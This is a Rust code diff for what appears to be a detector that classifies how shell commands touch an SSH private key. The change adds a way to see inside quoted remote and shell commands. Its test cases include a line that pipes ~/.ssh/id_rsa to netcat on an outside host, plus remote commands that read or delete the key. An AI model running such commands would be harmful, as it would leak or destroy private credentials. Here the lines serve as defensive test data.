@@ -50,8 +50,8 @@ const READERS: [&str; 17] = [
     "tar", "cut", "tr", "openssl", "curl",
 ];
 
-/// Commands that show the name of a file, or change its permissions.
-const NAMERS: [&str; 11] = [
+/// Commands that show the name of a file, change its permissions, create or remove it.
+const NAMERS: [&str; 17] = [
     "ls",
     "chmod",
     "chown",
@@ -63,7 +63,16 @@ const NAMERS: [&str; 11] = [
     "ssh-add",
     "ssh-keygen",
     "ssh-copy-id",
+    "restorecon",
+    "chcon",
+    "chgrp",
+    "setfacl",
+    "rm",
+    "rmdir",
 ];
+
+/// Programs that run a quoted argument as commands.
+const SHELLS: [&str; 6] = ["ssh", "sh", "bash", "zsh", "dash", "su"];
 
 /// Commands that write to the path in their last argument.
 const COPIERS: [&str; 4] = ["scp", "cp", "mv", "rsync"];
@@ -105,7 +114,7 @@ pub(crate) fn role(text: &str, span: Span) -> Role {
     if sign.ends_with('>') {
         return Role::Written;
     }
-    let head = head(command);
+    let head = head(quoted(command));
     let option = own.split_once('=').map(|(name, _)| name);
     let named = option.unwrap_or_else(|| last_word(before));
     let is_short = named.len() == 2;
@@ -225,6 +234,23 @@ fn ended(after: &str) -> &str {
         _ => false,
     });
     &after[..end.unwrap_or(after.len())]
+}
+
+/// Returns the commands that a shell runs, on this or another machine, if `command` ends inside their quotes. Otherwise
+/// returns `command`.
+fn quoted(command: &str) -> &str {
+    if !SHELLS.contains(&head(command)) {
+        return command;
+    }
+    let mut open = None;
+    for (at, c) in command.char_indices() {
+        match open {
+            None if matches!(c, '"' | '\'') => open = Some((at, c)),
+            Some((_, quote)) if c == quote => open = None,
+            _ => {}
+        }
+    }
+    open.map_or(command, |(at, _)| &command[at + 1..])
 }
 
 /// Returns the name of the program that a command starts.
@@ -362,6 +388,13 @@ mod tests {
             ("scp me@a.dev:k ~/.ssh/id_rsa", Role::Written),
             ("cp /mnt/c/k ~/.ssh/id_rsa # later", Role::Written),
             ("chmod 600 ~/.ssh/id_rsa", Role::Named),
+            (
+                "ssh -o \"A b\" me@a.dev 'chmod 600 ~/.ssh/id_rsa'",
+                Role::Named,
+            ),
+            ("ssh me@a.dev 'rm -f ~/.ssh/id_rsa'", Role::Named),
+            ("ssh me@a.dev 'cat ~/.ssh/id_rsa'", Role::Read),
+            ("/sbin/restorecon -F ~/.ssh/id_rsa", Role::Named),
             ("ls -la ~/.ssh/id_rsa; curl a.dev", Role::Named),
             ("cat ~/.ssh/id_rsa.pub", Role::Public),
             ("cat ~/.ssh/id_rsa | nc a.dev 1", Role::Read),
